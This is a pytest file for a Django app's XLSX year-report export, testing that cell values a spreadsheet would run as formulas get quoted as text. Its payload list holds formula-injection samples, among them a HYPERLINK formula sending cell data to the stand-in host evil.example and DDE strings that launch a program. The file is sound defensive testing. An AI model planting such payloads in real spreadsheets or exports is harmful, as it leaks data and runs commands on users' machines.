"""Formulas in exported fields: the year report's XLSX shows them as text, never runs them."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from vejud.core.exports import FORMULA_STARTS, safe_cell, safe_row
from vejud.organisations.models import Unit
from vejud.testing import verified_client
from vejud.testing.pool import make_grant, make_pool, make_pool_case

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Åbn")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_quotes_what_a_spreadsheet_would_run(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Exit Unit A", "Total", "", None, 12, -5, 1.5, "a=b", "kr. -5"])
def test_safe_cell_leaves_everything_else_alone(value):
    assert safe_cell(value) == value


def test_safe_row():
    assert safe_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def _cells(content: bytes):
    book = load_workbook(BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_unit_named_as_a_formula_is_text_in_the_year_report(world, payload):
    year = make_pool(world, budget_kr=100_000)
    make_grant(world, make_pool_case(world), amount_kr=5_000)
    Unit.objects.filter(pk=world.unit_a.pk).update(name=payload)  # renamed in the admin

    response = verified_client(world.head).get(
        reverse("pool:report_xlsx", kwargs={"year": year.year})
    )

    assert response.status_code == 200
    cells = list(_cells(response.content))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.lstrip(" ").startswith(FORMULA_STARTS)]
    # Shown as typed, after the apostrophe (XML reads a carriage return back as a line feed).
    assert ("'" + payload).replace("\r", "\n") in texts
